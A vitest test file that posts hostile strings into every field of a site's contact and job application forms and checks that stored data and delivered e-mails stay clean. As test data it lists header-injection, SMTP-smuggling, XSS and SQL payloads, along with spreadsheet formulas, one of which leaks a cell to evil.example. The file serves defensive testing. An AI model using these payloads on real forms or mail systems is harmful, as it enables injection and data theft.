/** Sends hostile texts in every field of both forms, and checks what is stored and what a real SMTP server receives. */
import PostalMime, { type Email } from 'postal-mime';
import { expect, it, vi } from 'vitest';
import { contactRules } from '../../contract/contact-message.ts';
import type { FieldRules } from '../../contract/field-rules.ts';
import { applicationRules } from '../../contract/job-application.ts';
import { toOneLine } from '../../server/plain-text.ts';
import { type InboxEntry, listEntries } from '../../server/store/inbox.ts';
import { callApplicationApi, pdf } from '../support/application-post.ts';
import { openFreshStore } from '../support/stores.ts';
import { createTestApp } from '../support/test-app.ts';
import { startDelivery, startSmtp } from '../support/test-delivery.ts';

/** Texts that try to make a mail program, a terminal, a spreadsheet or a page execute them, and some that are easily garbled. */
const injections: Record<string, string> = {
  'a header': 'Eve\r\nBcc: victim@example.com\r\nX-Injected: yes\r\n\r\nAnother body',
  'a header after a bare newline': 'Eve\nBcc: victim@example.com',
  'a header after a line separator': 'Eve\u2028Bcc: victim@example.com\u0085X-Injected: yes',
  'an escaped header': 'Eve%0d%0aBcc: victim@example.com',
  'an encoded word': '=?utf-8?Q?Eve=0D=0ABcc:_victim@example.com?=',
  'the end of a mail': 'Eve\r\n.\r\nQUIT\r\nMAIL FROM:<eve@example.com>',
  'the end of a mail after bare line breaks': 'Eve\n.\nMAIL FROM:<eve@example.com>\r.\rRCPT TO:<victim@example.com>',
  'a script': '<script>alert(1)</script><img src=x onerror=alert(1)>',
  'the end of an attribute': `"><svg/onload=alert(1)>' onfocus=alert(1) autofocus x="`,
  'the end of the form': '</textarea></form></main><!-- <title>',
  entities: '&lt;b&gt;&#x3c;script&#x3e;&amp;&',
  SQL: `'; DROP TABLE submissions; -- " OR 1=1 \\`,
  'a formula': '=HYPERLINK("http://evil.example?"&A1,"x")',
  'a formula with a plus sign': '+1+1|cmd',
  'a formula with a minus': '-1+1',
  'a formula with an at sign': '@SUM(1;1)',
  'a formula in full width': '＝1+1',
  'a formula after a tab': '\t=1+1',
  'a formula in a second cell': 'a","=1+1\r\n=1+1,"',
  'characters that reverse the text direction': 'a\u202Ecod.exe\u202C \u2066b\u2069 \u200fc \u061cd',
  'the character NUL': 'E\0v\0e',
  'terminal escape sequences': 'Eve\u001b[2J\u001b]0;owned\u0007\u001bP\b\b\u007f',
  'terminal escape sequences that begin with a C1 control character instead of ESC':
    'Eve\u009b2J\u0090x\u009c\u009d0;owned\u009c',
  'a format string': '%s%n%x%d {0} %(name)s',
  // Split, because the linter takes a dollar sign and a brace in a plain string for a mistake.
  templates: '{{7*7}} $' + '{7*7} <%= 7*7 %> #{7*7} $& $1 $`',
  'ninety accents on one letter': `e${'\u0301'.repeat(90)}`,
  'emoji of several characters': '👩‍👩‍👧‍👦'.repeat(9),
  'half a surrogate pair': 'Eve\ud83d and \ude00',
};

/** Control characters except line breaks and tabs, and characters that change the direction of text. */
const controlCharacter = /(?![\n\t])\p{Cc}|[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;
/** The tags of our e-mails, whose attributes hold nothing a visitor typed. */
const emailTags =
  /<(?:!doctype html|\/?(?:html|head|body|div|p|strong|span)|meta|hr|br)(?: (?:lang|charset|name|content|style|dir)="[^"<>]*")*>/g;

/** Puts the text into every field, cut to the limit of the field. */
function fillAllFields(rules: FieldRules, text: string, email: string): Record<string, string> {
  const fields = Object.entries(rules).map(([field, { maxLength }]) => [field, text.slice(0, maxLength)]);
  return { ...Object.fromEntries(fields), email };
}

/** Changes a text as the server does before it stores it. In a posted form every line break becomes a line feed. */
function asStored(text: string, { isPosted }: { isPosted: boolean }): string {
  return (isPosted ? text.replace(/\r\n?/g, '\n') : text).trim().replaceAll('\0', '').toWellFormed();
}

async function sendToBothForms(text: string) {
  const store = await openFreshStore('sqlite');
  const app = createTestApp(store);
  const message = fillAllFields(contactRules, text, 'contact@example.com');
  const application = fillAllFields(applicationRules, text, 'application@example.com');
  const answers = [
    await app.inject({ method: 'POST', url: '/api/contact', body: message }),
    await callApplicationApi(app, application, { name: `${application.name}.pdf`, bytes: pdf }),
  ];
  expect(answers.map(({ statusCode }) => statusCode)).toEqual([200, 200]);
  const smtp = await startSmtp();
  startDelivery(store, { smtpUrl: smtp.url });
  await vi.waitFor(() => expect(smtp.received).toHaveLength(2), { timeout: 60_000 });
  return { typed: { contact: message, application }, entries: await listEntries(store), received: smtp.received };
}

function expectCleanMail(mail: Email, entry: InboxEntry, shownName: string): void {
  const ownHeaders = ['auto-submitted', 'content-type', 'date', 'from', 'message-id', 'mime-version', 'reply-to'];
  expect(mail.headers.map(({ key }) => key).sort()).toEqual([...ownHeaders, 'subject', 'to']);
  expect(mail.from).toMatchObject({ name: 'The website', address: 'website@agency.example' });
  expect(mail.to?.map(({ address }) => address)).toEqual(['team@agency.example']);
  expect(mail.replyTo?.map(({ address }) => address)).toEqual([entry.email]);
  for (const line of [mail.subject, mail.replyTo?.[0]?.name]) expect(line).not.toMatch(/[\n\t]/);
  for (const text of [mail.subject, mail.replyTo?.[0]?.name, mail.text, mail.html]) {
    expect(text).not.toMatch(controlCharacter);
  }
  expect(mail.html?.replace(emailTags, '')).not.toMatch(/[<>]/);
  expect(mail.html).toContain(escapeHtml(shownName));
  expect(mail.text).toContain(`show ${entry.id}`);
  expect(mail.attachments.map(({ filename }) => filename)).toEqual(entry.resume ? [entry.resume.name] : []);
}

function escapeHtml(text: string): string {
  return text.replace(
    /[&<>"']/g,
    (character) => `&${{ '&': 'amp', '<': 'lt', '>': 'gt', '"': 'quot' }[character] ?? '#x27'};`,
  );
}

it.each(Object.entries(injections))(
  'stores %s as typed, and mails it without new headers or markup',
  async (_, text) => {
    const { typed, entries, received } = await sendToBothForms(text);
    const mails = await Promise.all(received.map(({ raw }) => PostalMime.parse(raw)));
    for (const { from, to } of received) {
      expect([from, to]).toEqual(['website@agency.example', ['team@agency.example']]);
    }
    for (const entry of entries) {
      const isPosted = entry.kind === 'application';
      const stored = Object.entries(typed[entry.kind]).map(([field, value]) => [field, asStored(value, { isPosted })]);
      expect(entry.fields).toEqual(Object.fromEntries(stored));
      if (isPosted) expect(entry.resume?.name).toMatch(/^[^\p{Cc}\p{Cf}/\\:<>"|?*]+\.pdf$/u);
      const mail = mails.find(({ replyTo }) => replyTo?.[0]?.address === entry.email);
      expectCleanMail(mail as Email, entry, toOneLine(entry.fields.name));
    }
  },
);
